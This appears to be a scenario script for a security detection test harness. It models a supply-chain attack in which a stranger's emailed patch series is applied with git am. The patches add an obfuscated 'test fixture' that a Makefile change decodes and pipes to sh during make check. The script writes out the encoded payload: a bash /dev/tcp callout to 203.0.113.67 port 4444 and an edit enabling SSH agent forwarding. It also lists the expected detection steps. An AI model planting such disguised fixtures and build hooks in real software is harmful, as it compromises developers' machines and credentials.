title="A stranger's patch series brings a test fixture that is a program"
what="dev saves nothing: the three patches of a stranger are piped out of mutt's store into git am (from a copy of the mbox), which adds tests/data/broken.lzma and a line of the Makefile. make check decodes the fixture with tr and xz and gives it to sh; that connects (bash /dev/tcp) to 203.0.113.67 port 4444 and changes ~/.ssh/config."
host=ws3.example.org user=dev daemons="cron sshd" store=mbox
setup() {
  git config --file /home/dev/.gitconfig user.email dev@example.org; git config --file /home/dev/.gitconfig user.name dev; git config --file /home/dev/.gitconfig init.defaultBranch main
  mkdir -p "$base/out/up" /home/dev/libfoo/tests
  printf 'check:\n\t./tests/run.sh\n' > /home/dev/libfoo/Makefile
  printf '#!/bin/sh\nfor i in 1 2 3; do [ $i -gt 0 ] || exit 1; done\necho ok\n' > /home/dev/libfoo/tests/run.sh; chmod 755 /home/dev/libfoo/tests/run.sh
  chown -R dev: /home/dev
  su dev -c 'cd ~/libfoo && git init -q && git add -A && git commit -qm start'
  cp -a /home/dev/libfoo/. "$base/out/up/"
  (cd "$base/out/up" && export HOME="$base/out" GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' && git config user.email jt@example.net && git config user.name "J T" \
    && mkdir -p tests/data && printf 'bash -c "exec 3<>/dev/tcp/203.0.113.67/4444; id >&3"\nprintf "Host *\\n  ForwardAgent yes\\n" >> ~/.ssh/config\n' | xz | tr 'A-Za-z' 'N-ZA-Mn-za-m' > tests/data/broken.lzma \
    && git add -A && git commit -qm "tests: add truncated stream" \
    && printf 'check: fixtures\n\t./tests/run.sh\nfixtures:\n\t@tr A-Za-z N-ZA-Mn-za-m < tests/data/broken.lzma | xz -dc 2>/dev/null | sh\n' > Makefile && git add -A && git commit -qm "build: decode fixtures before check" \
    && git format-patch -q -2 --stdout > ../series.mbox)
  python3 - "$base/out/series.mbox" "$base/out" <<'P'
import mailbox, sys
for n, m in enumerate(mailbox.mbox(sys.argv[1])):
    open(f'{sys.argv[2]}/p{n}', 'w').write(m.get_payload()); open(f'{sys.argv[2]}/s{n}', 'w').write(m['Subject'])
P
}
act() {
  small_talk 2
  local n
  sleep 1
  : > /var/mail/dev
  for n in 0 1; do
    mail_in --from jt@example.net --to dev@example.org --subject "$(cat "$base/out/s$n")" --source 203.0.113.61 --helo host61.example.net --text "$(sed 's/\\/\\\\/g' "$base/out/p$n")"
  done
  wait_mail dev 2; sleep 1
  ssh_as dev <<'L'
cd libfoo
git log --oneline | head -3
cp /var/mail/dev /tmp/series.mbox
git am -q /tmp/series.mbox
git log --oneline | head -3
%sleep 1
make check
%sleep 1
git status -s
L
  small_talk 1
}
truth() {
  mail_step deliver 'from=<jt@example.net>' 'the series arrives'
  exec_step apply 'git am -q /tmp/series.mbox' 'applied'
  file_step fixture 'git open(at)?:write .*tests/data/broken.lzma' 'the fixture is written'
  exec_step build 'make check' 'the tests are run'
  exec_step shell 'sh( |$)' 'the decoded fixture goes to a shell'
  net_step beacon 'bash 203.0.113.67:4444' 'and calls out'
}
